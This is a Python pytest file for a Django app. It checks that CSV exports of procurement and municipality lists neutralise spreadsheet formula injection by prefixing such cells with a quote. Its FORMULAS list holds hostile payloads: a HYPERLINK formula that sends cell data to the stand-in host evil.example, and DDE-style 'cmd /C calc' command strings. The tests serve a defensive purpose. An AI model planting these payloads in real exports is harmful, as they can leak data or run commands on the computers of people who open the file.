"""CSV exports open in spreadsheets: text that looks like a formula must stay text (OWASP)."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import RequestFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response, delimiter=";"):
    body = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=delimiter))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("title", FORMULAS)
def test_a_title_that_looks_like_a_formula_is_exported_as_text(seed, client, title):
    from agreements.models import PlannedProcurement

    PlannedProcurement.objects.update(title=title)
    [row] = csv_rows(client.get("/upphandlingar/", {"format": "csv"}))
    # The leading quote makes Excel and LibreOffice show the cell as text; the title stays
    # readable after it.
    assert row["Rubrik"] == "'" + title


def test_formula_names_are_neutralised_in_every_list_and_language(seed, client):
    from agreements.models import Cooperation, Municipality

    Cooperation.objects.filter(slug="natverk-upphandlare-sydnarke").update(name="=1+2")
    Municipality.objects.filter(code="1860").update(name="@Laxå")
    [cooperation] = [
        r
        for r in csv_rows(client.get("/en/samverkan/", {"format": "csv"}), delimiter=",")
        if r["Name"].endswith("=1+2")
    ]
    assert cooperation["Name"] == "'=1+2"
    names = [r["Kommun"] for r in csv_rows(client.get("/kommuner/", {"format": "csv"}))]
    assert "'@Laxå" in names
    assert "@Laxå" not in names


def test_ordinary_text_and_numbers_are_unchanged(seed, client):
    [row] = csv_rows(client.get("/upphandlingar/", {"format": "csv"}))
    assert not row["Rubrik"].startswith("'")
    municipalities = csv_rows(client.get("/kommuner/", {"format": "csv"}))
    assert all(not r["Kommun"].startswith("'") for r in municipalities)


def test_negative_numbers_stay_numbers(db):
    # The data's constraints keep values non-negative today; a number column must still never
    # be mistaken for a formula, or a spreadsheet would read "-0,5" as text.
    from agreements import exports

    columns = exports.Columns(
        [
            ("Värde", lambda r: exports.decimal(r["value"])),
            ("Heltidstjänster", lambda r: exports.fte(r["fte"])),
            ("Antal", lambda r: r["count"]),
            ("Text", lambda r: r["text"]),
        ]
    )
    rows = [{"value": Decimal("-1500.5"), "fte": Decimal("-0.50"), "count": -3, "text": "-3"}]
    request = RequestFactory().get("/upphandlingar/", {"format": "csv"})
    [row] = csv_rows(exports.csv_response(rows, columns, "test", request))
    assert row == {"Värde": "-1500,5", "Heltidstjänster": "-0,5", "Antal": "-3", "Text": "'-3"}
